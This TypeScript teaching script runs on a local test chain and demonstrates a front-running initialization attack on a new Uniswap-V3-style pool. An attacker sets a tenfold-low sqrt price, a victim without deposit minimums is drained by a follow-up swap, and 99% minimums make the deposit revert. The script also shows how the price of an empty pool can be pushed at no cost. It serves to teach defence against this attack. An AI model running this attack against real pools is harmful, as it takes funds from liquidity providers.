// SPDX-License-Identifier: MIT
// 抢先初始化：攻击者用错误的价格初始化新池，没有下限的受害者按错价存入，随即被换走；有下限则回滚。
// 没有流动性时，价格可以不花代币地推来推去：攻击者用它，救回定错价的空池也用它。
// #region imports
import {
  encodeFunctionData,
  erc20Abi,
  formatUnits,
  parseAbi,
  parseUnits,
  type Account,
  type Address,
} from 'viem';
import { positionManagerAbi, swapRouterAbi, v3FactoryAbi, v3PoolAbi } from '#starter/abis';
import { deployments, publicClient } from '#starter/clients';
import { showFailure } from '#starter/failures';
import { testClient } from '#starter/local-chain';
import { waitForSuccess } from '#starter/receipts';
import { account, walletClient } from '#starter/wallet';
import { artifact } from '#solidity';
// #endregion imports

// #region setup
// 受害者要为 WXOC/TKA 建一个 1% 的新池，公允价格是 1 WXOC = 1 TKA，打算存入各 50 个。
const { wxoc, tka, positionManager, swapRouter } = deployments;
const fee = 10_000;
const fairPrice = 1n << 96n;
const amount = parseUnits('50', 18);
const manager = { address: positionManager, abi: positionManagerAbi } as const;
const [, , attacker] = (await walletClient.request({ method: 'eth_accounts' })) as Address[];
for (const token of [wxoc, tka]) await approve(account, token, positionManager, amount);
// #endregion setup

// #region hijack
// 攻击者抢先一步：根号价格定成公允值的十分之一，价格就是百分之一。不需要任何本金。
await waitForSuccess(
  await walletClient.writeContract({
    ...manager,
    account: attacker!,
    functionName: 'createAndInitializePoolIfNecessary',
    args: [wxoc, tka, fee, fairPrice / 10n],
  }),
);
const hijacked = await testClient.snapshot();
// #endregion hijack

// #region victim
/** 建池、初始化、全区间存入，合在一笔交易里。 */
async function createAndMint(amount0Min: bigint, amount1Min: bigint) {
  const { timestamp } = await publicClient.getBlock();
  const create = encodeFunctionData({
    abi: positionManagerAbi,
    functionName: 'createAndInitializePoolIfNecessary',
    args: [wxoc, tka, fee, fairPrice],
  });
  const mint = encodeFunctionData({
    abi: positionManagerAbi,
    functionName: 'mint',
    args: [
      {
        token0: wxoc,
        token1: tka,
        fee,
        tickLower: -887_200,
        tickUpper: 887_200,
        amount0Desired: amount,
        amount1Desired: amount,
        amount0Min,
        amount1Min,
        recipient: account.address,
        deadline: timestamp + 600n,
      },
    ],
  });
  const { request } = await publicClient.simulateContract({
    ...manager,
    account,
    functionName: 'multicall',
    args: [[create, mint]],
  });
  await waitForSuccess(await walletClient.writeContract(request));
}
// #endregion victim

// #region no-minimum
const before = await holdings(account.address);
await createAndMint(0n, 0n);
const after = await holdings(account.address);
const deposited = { wxoc: before.wxoc - after.wxoc, tka: before.tka - after.tka };
console.log(`没有报错，存入了 ${tokens(deposited.wxoc)} WXOC 与 ${tokens(deposited.tka)} TKA`);

// 攻击者用 TKA 按错价买走 WXOC，直到价格公允为止。
await fund(attacker!);
const attackerBefore = await holdings(attacker!);
await buyUpTo(fairPrice);
const attackerAfter = await holdings(attacker!);
const paid = attackerBefore.tka - attackerAfter.tka;
const taken = attackerAfter.wxoc - attackerBefore.wxoc;
console.log(`攻击者付 ${tokens(paid)} TKA，买走 ${tokens(taken)} WXOC`);
console.log(`按公允价格，攻击者得利 ${tokens(taken - paid)}`);
// #endregion no-minimum

await testClient.revert({ id: hijacked });

// #region minimum
// 修正：按打算的价格，两种代币都应当几乎用完；各留 1%。
const minimum = (amount * 99n) / 100n;
await showFailure(() => createAndMint(minimum, minimum));
// #endregion minimum

// #region rescue
// 救回定错价的空池：直接调用池的 swap，推到公允的价格。没有流动性，所以一个代币也不用付。
const emptyPoolPrice = await deployEmptyPoolPrice();
const poolAddress = await publicClient.readContract({
  address: deployments.v3Factory,
  abi: v3FactoryAbi,
  functionName: 'getPool',
  args: [wxoc, tka, fee],
});
const heldBefore = await holdings(account.address);
await movePrice(account, fairPrice);
const heldAfter = await holdings(account.address);
console.log(`价格已经公允：${(await price()) === fairPrice ? '是' : '否'}`);
console.log(`付出 ${heldBefore.wxoc - heldAfter.wxoc} WXOC、${heldBefore.tka - heldAfter.tka} TKA`);
// #endregion rescue

// #region moved
// 别人同样可以：池的价格已经正确，存入之前又被推走，也不用付代币。
const rescued = await testClient.snapshot();
await movePrice(attacker!, fairPrice / 10n);
console.log(`存入之前又被推走：${(await price()) === fairPrice ? '否' : '是'}`);
await showFailure(() => createAndMint(minimum, minimum));
await testClient.revert({ id: rescued });
await createAndMint(minimum, minimum);
console.log('没有人捣乱时，同样的下限存入成功');
// #endregion moved

// #region helpers
function tokens(value: bigint): string {
  return Number(formatUnits(value, 18)).toFixed(4);
}

async function holdings(owner: Address) {
  const call = { abi: erc20Abi, functionName: 'balanceOf', args: [owner] } as const;
  const [held0, held1] = await Promise.all([
    publicClient.readContract({ address: wxoc, ...call }),
    publicClient.readContract({ address: tka, ...call }),
  ]);
  return { wxoc: held0, tka: held1 };
}

async function approve(from: Account | Address, token: Address, spender: Address, value: bigint) {
  const call = { address: token, abi: erc20Abi, functionName: 'approve' } as const;
  await waitForSuccess(
    await walletClient.writeContract({ ...call, account: from, args: [spender, value] }),
  );
}

/** 本地链的测试代币谁都能铸造：给一个账户 100 TKA，并授权路由合约。 */
async function fund(owner: Address) {
  const hash = await walletClient.writeContract({
    address: tka,
    abi: parseAbi(['function mint(address to, uint256 value)']),
    functionName: 'mint',
    args: [owner, parseUnits('100', 18)],
  });
  await waitForSuccess(hash);
  await approve(owner, tka, swapRouter, parseUnits('100', 18));
}

/** 第三个账户付 TKA 买 WXOC，价格到 limit 就停。 */
async function buyUpTo(limit: bigint) {
  const { timestamp } = await publicClient.getBlock();
  const { request } = await publicClient.simulateContract({
    address: swapRouter,
    abi: swapRouterAbi,
    account: attacker!,
    functionName: 'exactInputSingle',
    args: [
      {
        tokenIn: tka,
        tokenOut: wxoc,
        fee,
        recipient: attacker!,
        deadline: timestamp + 600n,
        amountIn: parseUnits('100', 18),
        amountOutMinimum: 0n,
        sqrtPriceLimitX96: limit,
      },
    ],
  });
  await waitForSuccess(await walletClient.writeContract(request));
}

async function deployEmptyPoolPrice(): Promise<Address> {
  const { abi, bytecode } = artifact('solidity/v3-security/EmptyPoolPrice.sol:EmptyPoolPrice');
  const hash = await walletClient.deployContract({ abi, bytecode });
  const { contractAddress } = await waitForSuccess(hash);
  if (!contractAddress) throw new Error('EmptyPoolPrice 部署失败');
  return contractAddress;
}

async function movePrice(from: Account | Address, sqrtPriceX96: bigint) {
  const { request } = await publicClient.simulateContract({
    address: emptyPoolPrice,
    abi: parseAbi(['function move(address pool, uint160 sqrtPriceX96)']),
    account: from,
    functionName: 'move',
    args: [poolAddress, sqrtPriceX96],
  });
  await waitForSuccess(await walletClient.writeContract(request));
}

async function price(): Promise<bigint> {
  const pool = { address: poolAddress, abi: v3PoolAbi } as const;
  const [sqrtPriceX96] = await publicClient.readContract({ ...pool, functionName: 'slot0' });
  return sqrtPriceX96;
}
// #endregion helpers
